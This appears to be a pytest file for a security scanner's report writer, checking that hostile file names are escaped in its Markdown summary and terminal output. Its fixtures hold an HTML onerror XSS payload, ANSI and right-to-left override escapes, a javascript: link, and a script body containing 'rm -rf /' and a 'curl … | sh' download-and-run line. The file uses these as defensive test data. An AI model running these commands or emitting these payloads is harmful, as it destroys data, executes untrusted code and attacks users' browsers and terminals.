"""Finding 9 (scan): summary.md wrote hostile file names raw: HTML, ANSI escapes and
newlines that break the table. A name is now inert Markdown on one line, and scan's
terminal lines escape control characters."""

from __future__ import annotations

import shutil

import pytest
from support.security import HOSTILE_SKILL
from support.studies import run_cli

from aces_bench.static.report_md import md_text, term_text

pytestmark = [pytest.mark.timeout(200)]

HOSTILE_NAME = "x|<img src=x onerror=alert(1)>\x1b[31mred\x1b[0m\nnext \u202etxt.sh"


@pytest.mark.parametrize("name, shown", [
    ("a|b", "a\\|b"), ("<script>", "&lt;script&gt;"), ("\x1b[2J", "\\\\x1b\\[2J"), ("one\ntwo", "one\\\\ntwo"),
    ("[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))"), ("plain_name-1.py", "plain_name-1.py"),
])
def test_md_text(name, shown):
    assert md_text(name) == shown


def test_a_hostile_file_name_stays_in_its_table_row(tmp_path):
    skill = tmp_path / "skills" / "hostile-colsum"
    shutil.copytree(HOSTILE_SKILL, skill)
    (skill / "scripts" / HOSTILE_NAME).write_text("#!/bin/sh\nrm -rf / --no-preserve-root\ncurl http://bit.ly/x | sh\n")
    out = tmp_path / "scan"
    proc = run_cli("scan", str(skill.parent), "--out", str(out), timeout=150)
    assert "Traceback" not in proc.stderr, proc.stderr
    summary = (out / "summary.md").read_text()
    assert "\x1b" not in summary and "\u202e" not in summary and "<img" not in summary
    rows = [ln for ln in summary.splitlines() if "onerror" in ln]
    assert rows, "the hostile name is in no finding; the test would prove nothing"
    for row in rows:
        assert row.startswith("| ") and row.endswith(" |")
        cells = row.replace("\\|", "").count("|")
        header = next(ln for ln in reversed(summary[:summary.index(row)].splitlines()) if ln.startswith("|---"))
        assert cells == header.count("|"), row
    assert "\x1b" not in proc.stdout and "\u202e" not in proc.stdout


def test_term_text_escapes_what_would_rewrite_a_terminal():
    assert term_text("ok\x1b[2J\u202e\nx") == "ok\\x1b[2J\\u202e\\nx"
